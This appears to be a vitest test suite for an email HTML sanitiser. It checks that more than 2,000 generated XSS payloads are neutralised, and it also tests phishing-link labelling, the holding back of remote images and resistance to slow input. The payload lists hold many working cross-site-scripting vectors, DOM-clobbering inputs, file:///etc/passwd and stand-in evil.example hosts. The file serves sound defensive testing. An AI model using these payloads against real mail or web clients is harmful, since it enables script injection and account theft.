import { expect, test } from 'vitest';
import { cleanHtml } from './clean-html.ts';

const cleaned = (html: string, remotePictures = false) => cleanHtml(html, { remotePictures, own: new Map([['pic@b', 'data:image/png;base64,AAAA']]) }).html;

const ADDRESSES = [
  'javascript:alert(1)', ' javascript:alert(1)', 'java\nscript:alert(1)', 'java\tscript:alert(1)', 'JaVaScRiPt:alert(1)', '&#106;avascript:alert(1)', '&#x6A;avascript&colon;alert(1)',
  'vbscript:msgbox(1)', 'data:text/html,<script>alert(1)</script>', 'data:image/svg+xml,<svg onload=alert(1)>', 'file:///etc/passwd', 'blob:x', 'about:blank', '//evil.example/x', '\u0001javascript:alert(1)',
  'feed:javascript:alert(1)', 'view-source:javascript:alert(1)', 'jar:http://evil.example!/', 'mhtml:http://evil.example', 'ftp://evil.example',
];
const CARRIERS = [
  (x: string) => `<a href="${x}">a</a>`, (x: string) => `<img src="${x}">`, (x: string) => `<iframe src="${x}"></iframe>`, (x: string) => `<form action="${x}"><button>go</button></form>`,
  (x: string) => `<object data="${x}"></object>`, (x: string) => `<embed src="${x}">`, (x: string) => `<link rel=stylesheet href="${x}">`, (x: string) => `<base href="${x}">`,
  (x: string) => `<meta http-equiv=refresh content="0;url=${x}">`, (x: string) => `<svg><a xlink:href="${x}"><text>a</text></a></svg>`, (x: string) => `<math href="${x}">a</math>`,
  (x: string) => `<video poster="${x}" src="${x}"></video>`, (x: string) => `<body background="${x}">`, (x: string) => `<table background="${x}">`, (x: string) => `<p style="background:url(${x})">a</p>`,
  (x: string) => `<div style="behavior:url(${x});-moz-binding:url(${x})">a</div>`, (x: string) => `<style>@import "${x}"</style>`, (x: string) => `<input type=image src="${x}">`, (x: string) => `<area href="${x}">`,
  (x: string) => `<button formaction="${x}">a</button>`, (x: string) => `<img srcset="${x} 2x">`, (x: string) => `<picture><source srcset="${x}"></picture>`, (x: string) => `<audio src="${x}">`,
];
const SCRIPTS = [
  '<script>alert(1)</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', '<scr<script>ipt>alert(1)</scr</script>ipt>', '<<script>alert(1)//<</script>', '<img src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)>', '<svg/onload=alert(1)>', '<svg><script>alert(1)</script></svg>', '<math><mtext><style><img src onerror=alert(1)></style></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<template><img src=x onerror=alert(1)></template>', '<details open ontoggle=alert(1)>', '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>', '<select><option><style></select><script>alert(1)</script>', '<textarea><img src=x onerror=alert(1)></textarea><script>alert(1)</script>',
  '<a href=x onclick=alert(1)>a</a>', '<p onmouseover="alert(1)">a</p>', '<!--<img src="--><img src=x onerror=alert(1)>">', '<![CDATA[<script>alert(1)</script>]]>', '<xmp><script>alert(1)</script></xmp>',
  '<plaintext><script>alert(1)</script>', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', '<p style="width:expression(alert(1))">a</p>', '<div style="position:fixed;inset:0">a</div>',
  '<marquee onstart=alert(1)>', '<img src="x` `<script>alert(1)</script>"` `>', '<title><img src=x onerror=alert(1)></title>', '<iframe srcdoc="<script>alert(1)</script>">', '<isindex type=image src=1 onerror=alert(1)>',
  '<a href="https://ok.example" target="_top" ping="https://evil.example">a</a>', '<q/oncut=alert(1)>', '<p class="held-back x" id=location name=cookie>a</p>', '<img name=getElementById>', '<form id=document><input name=cookie></form>',
];
const WRAPS = [(x: string) => x, (x: string) => `<div><table><tr><td>${x}`, (x: string) => `</p></div>${x}`, (x: string) => `<b>${x.toUpperCase()}</b>`, (x: string) => `\uFEFF${x}\0`];

const payloads = [...ADDRESSES.flatMap((address) => CARRIERS.map((carry) => carry(address))), ...SCRIPTS].flatMap((payload) => WRAPS.map((wrap) => wrap(payload)));

test(`S6 Of ${payloads.length} hostile mails nothing is left that acts, loads or reaches out of its place`, () => {
  expect(payloads.length).toBeGreaterThan(2000);
  for (const payload of payloads) {
    const html = cleaned(payload);
    for (const tag of html.match(/<[^>]*>/g) ?? []) {
      expect(tag, payload).not.toMatch(/\son[a-z]+\s*=|<\/?(?:script|iframe|object|embed|svg|math|form|input|button|link|meta|base|style|template|video|audio|source|textarea|area|title|body)\b/i);
      expect(tag, payload).not.toMatch(/(?:href|src|style)="[^"]*(?:javascript|vbscript|data:text|data:image\/svg|file:|url\(|expression|behavior|position|evil\.example)/i);
      expect(tag, payload).not.toMatch(/\s(?:id|name|srcset|background|poster|ping|action|formaction|xlink:href)=/i);
    }
  }
});

test('S6 What a person reads stays, with tables, lists and colours', () => {
  const html = cleaned('<table width="600" bgcolor="#ffffff"><tr><td style="color:#333;padding:4px 8px;position:absolute">Hello <b>Dana</b></td></tr></table><ul><li>one</li></ul>');
  expect(html).toBe('<table width="600" bgcolor="#ffffff"><tr><td style="color:#333;padding:4px 8px">Hello <b>Dana</b></td></tr></table><ul><li>one</li></ul>');
});

test('S6 A link shows where it truly leads, and tells nobody where it was pressed', () => {
  expect(cleaned('<a href="https://evil.example/login">https://bank.example</a>')).toMatch(/href="https:\/\/evil\.example\/login" target="_blank" rel="noopener noreferrer nofollow"[^>]*>https:\/\/bank\.example<\/a> <span class="leads-to">\(evil\.example\)<\/span>/);
  expect(cleaned('<a href="https://bank.example/a">bank.example/a</a>')).not.toContain('leads-to');
  expect(cleaned('<a href="https://user:pw@evil.example">bank.example</a>')).toContain('(evil.example)');
  expect(cleaned('<a href="https://evil.example">bank\u202E.example</a>')).toContain('>bank.example</a> <span class="leads-to">(evil.example)');
});

test('Pictures from elsewhere wait until somebody asks; those that came with the mail are there', () => {
  const mail = '<img src="https://track.example/1.gif" alt="Logo"><img src="cid:pic@b"><img src="cid:none">';
  const before = cleanHtml(mail, { remotePictures: false, own: new Map([['pic@b', 'data:image/png;base64,AAAA']]) });
  expect(before.heldBack).toBe(true);
  expect(before.html).not.toContain('track.example');
  expect(before.html).toContain('src="data:image/png;base64,AAAA"');
  const after = cleanHtml(mail, { remotePictures: true, own: new Map() });
  expect([after.heldBack, after.html.includes('src="https://track.example/1.gif"')]).toEqual([false, true]);
});

test('S13 A mail built to keep the reader busy is read before anybody waits for it', () => {
  for (const piece of ['<div>', '<a href="x">', '<img src="cid:pic@b">', '<b><i>', '&#', '<!--']) {
    const before = process.cpuUsage();
    cleaned(piece.repeat(Math.floor(300_000 / piece.length)));
    expect(process.cpuUsage(before).user / 1000, `${piece}: milliseconds of the processor`).toBeLessThan(3000);
  }
});
